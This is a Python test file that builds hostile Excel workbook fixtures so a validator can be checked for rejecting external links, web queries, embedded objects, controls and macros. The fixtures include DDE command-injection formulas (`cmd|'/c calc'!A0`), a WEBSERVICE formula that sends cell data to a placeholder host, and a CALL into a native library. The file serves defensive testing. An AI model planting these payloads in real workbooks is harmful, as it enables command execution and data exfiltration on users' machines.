"""What a workbook must not bring: links, queries, commands, objects, controls, macros."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.making import (
    BOOK,
    DEAD,
    SHEET,
    Hostile,
    added,
    before,
    related,
    zipped,
)

if TYPE_CHECKING:
    from collections.abc import Callable

SHEET_RELATIONS = "xl/worksheets/_rels/sheet4.xml.rels"


def formula(text: bytes) -> bytes:
    """Return the workbook with a formula typed beside the table."""
    cell = b'<row r="900"><c r="Z900"><f>%b</f><v>1</v></c></row>' % text
    return before(SHEET, b"</sheetData>", cell)


def defined(text: bytes) -> bytes:
    """Return the workbook with one more defined name."""
    return before(BOOK, b"</definedNames>", b'<definedName name="x">%b</definedName>' % text)


def conditional(text: bytes) -> bytes:
    """Return the workbook with a formula in a conditional format."""
    rule = b'<cfRule type="expression" priority="999"><formula>%b</formula></cfRule>' % text
    one = b'<conditionalFormatting sqref="A1">%b</conditionalFormatting>' % rule
    return before(SHEET, b"<conditionalFormatting", one)


def _foreign(name: str, make: Callable[[], bytes], code: str) -> Hostile:
    return Hostile(name, "foreign", make, code, read=True)


FOREIGN: tuple[Hostile, ...] = (
    _foreign(
        "a link to another workbook",
        lambda: added({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        "foreign-link",
    ),
    _foreign(
        "a formula that refers to one",
        lambda: formula(b"[1]Sheet1!A1+1"),
        "foreign-link stray-content",
    ),
    _foreign(
        "a formula that refers to a file",
        lambda: formula(b"SUM('file:///C:/x.xlsx'#$Sheet1.A1)"),
        "foreign-link stray-content",
    ),
    _foreign("a name that refers to one", lambda: defined(b"'[2]a b'!$A$1"), "foreign-link"),
    _foreign(
        "a relation to an address",
        lambda: zipped(related("attachedTemplate", "https://x.invalid/", external=True)),
        "foreign-link",
    ),
    _foreign(
        "a picture on a server",
        lambda: zipped(related("image", "//x.invalid/a.png", external=True, of=SHEET_RELATIONS)),
        "foreign-link",
    ),
    _foreign(
        "an address in a cell",
        lambda: zipped(
            related("hyperlink", "https://x.invalid/", external=True, of=SHEET_RELATIONS)
        ),
        "",
    ),
    _foreign("a web query", lambda: added({"xl/connections.xml": b"<x/>"}), "foreign-query"),
    _foreign(
        "a query's table",
        lambda: added({"xl/queryTables/queryTable1.xml": b"<x/>"}),
        "foreign-query",
    ),
    _foreign(
        "a formula that asks the web",
        lambda: formula(b'_xlfn.WEBSERVICE("https://x.invalid/?"&amp;A1)'),
        "foreign-query stray-content",
    ),
    _foreign("=cmd|", lambda: formula(b"cmd|'/c calc'!A0"), "foreign-command stray-content"),
    _foreign(
        "=cmd| in a conditional format", lambda: conditional(b"cmd|'/c calc'!A0"), "foreign-command"
    ),
    _foreign("=cmd| in a name", lambda: defined(b"cmd|'/c calc'!A0"), "foreign-command"),
    _foreign(
        "a formula that calls a library",
        lambda: formula(b'CALL("a","b","J",1)'),
        "foreign-command stray-content",
    ),
    _foreign("bars that are text", lambda: formula(b"\"a|b\"&amp;'x|y'!A1"), "stray-content"),
    _foreign(
        "an embedded object",
        lambda: added({"xl/embeddings/oleObject1.bin": DEAD}),
        "foreign-object",
    ),
    _foreign(
        "an embedded workbook",
        lambda: added({"xl/embeddings/Microsoft_Excel_Sheet.xlsx": DEAD}),
        "foreign-object",
    ),
    _foreign("a control", lambda: added({"xl/activeX/activeX1.bin": DEAD}), "foreign-control"),
    _foreign("macros", lambda: added({"xl/vbaProject.bin": DEAD}), "file-macros"),
    _foreign(
        "a sheet of macros", lambda: added({"xl/macrosheets/sheet1.xml": b"<x/>"}), "file-macros"
    ),
    _foreign("a ribbon", lambda: added({"customUI/customUI14.xml": b"<x/>"}), "foreign-ribbon"),
)
